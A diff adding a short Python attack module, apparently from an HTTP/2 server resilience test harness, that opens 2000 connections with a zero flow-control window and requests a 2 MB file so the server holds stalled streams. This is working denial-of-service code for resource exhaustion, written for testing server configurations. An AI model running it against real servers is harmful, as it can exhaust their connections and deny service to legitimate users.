@@ -1,0 +1,17 @@
+"""Clients that ask for a file of 2 MB over plain HTTP/2, each with a window of 0 for
+its one stream, so that no byte of the body may be sent."""
+
+import frames
+from attack import Attack, still_open
+from configurations import CLEAR_HTTP2
+
+ATTACK = Attack(configurations=("static",))
+CONNECTIONS = 2000
+
+
+async def run(target):
+    first = frames.opening({frames.INITIAL_WINDOW: 0})
+    opened = await target.many(CONNECTIONS, lambda _: target.http2(first, CLEAR_HTTP2))
+    await target.one_after_another(opened, frames.request(1, frames.head(b"/large")))
+    await target.wait()
+    return f"{len(opened)} connections, a stream of 2 MB waiting on each, {still_open(opened)} stayed"
